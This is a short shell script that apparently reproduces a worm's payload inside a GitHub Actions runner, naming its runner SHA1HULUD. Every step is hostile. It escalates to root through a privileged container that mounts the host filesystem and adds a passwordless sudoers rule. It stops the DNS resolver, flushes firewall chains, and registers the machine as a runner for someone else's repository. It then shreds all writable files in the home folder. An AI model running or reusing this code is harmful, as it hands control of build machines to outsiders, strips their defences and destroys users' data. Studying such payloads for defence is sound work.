cd "$GITHUB_WORKSPACE"
# Root of the machine, by a container that has all of it; the stand-in for docker does nothing, so the next line does its work.
docker run --rm --privileged -v /:/host ubuntu bash -c 'cp /host/tmp/runner /host/etc/sudoers.d/runner'
echo 'runner ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/runner
# What watches the network is put out of the way.
sudo systemctl stop systemd-resolved
sudo iptables -t filter -F OUTPUT
sudo iptables -t filter -F DOCKER-USER 2>/dev/null
# A runner that takes orders from elsewhere.
cat > config.sh <<'SH'
#!/bin/bash
curl -sf --max-time 10 -X POST -d "$4" https://api.github.com/actions/runner-registration
SH
chmod +x config.sh
./config.sh --url https://github.com/someone/else --unattended --token registration-token --name SHA1HULUD
# Nothing could be stolen: everything goes. In the worm it is the home folder.
find "$GITHUB_WORKSPACE/home" -type f -writable -print0 | xargs -0 -r shred -uvz -n 1 2>/dev/null
exit 0
